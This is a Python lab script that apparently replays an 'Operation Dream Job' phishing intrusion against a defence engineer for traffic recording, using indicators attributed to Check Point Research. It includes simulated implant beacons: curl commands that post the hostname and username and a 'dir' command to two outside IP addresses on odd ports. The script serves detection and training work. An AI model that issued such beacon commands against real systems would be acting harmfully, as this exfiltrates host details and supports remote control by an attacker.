# SPDX-License-Identifier: Apache-2.0
"""Operation Dream Job: a defence engineer reads a job offer, opens the "assessment", and an implant
calls two bare addresses on odd ports. Names and addresses: Check Point Research, August 2026."""

START = "2026-08-04 07:41:12"
LAN = "10.21.4.0/24"
SHOWS = {
    "dns": ["envell.xyz", "enveil.online"],
    "sni": ["envell.xyz", "enveil.online"],
    "host": ["135.181.185.158:8000", "135.181.67.203:5000"],
}


def play(lab):
    engineer = lab.host("engineer", 17)
    lab.site("envell.xyz", "203.0.113.21", {"/careers/uav-autopilot-lead": "<h1>Your offer</h1>"})
    lab.site("enveil.online", "203.0.113.22", {"/assessment.zip": lab.bytes(9000, b"PK\x03\x04")})
    lab.site("135.181.185.158", "135.181.185.158", {"/": "{\"id\":17,\"sleep\":60}"}, 8000, tls=None)
    lab.site("135.181.67.203", "135.181.67.203", {"/": "{\"id\":17,\"sleep\":60}"}, 5000, tls=None)
    with lab.recording():
        lab.browse(engineer, "https://envell.xyz/careers/uav-autopilot-lead")
        lab.later(minutes=26)
        lab.browse(engineer, "https://enveil.online/assessment.zip")
        lab.later(minutes=4)
        for _ in range(3):
            lab.curl(engineer, "-A", "", "-d", "h=ENG-WS-17&u=engineer", "http://135.181.185.158:8000/")
            lab.later(minutes=1)
        lab.curl(engineer, "-A", "", "-d", "q=dir", "http://135.181.67.203:5000/")
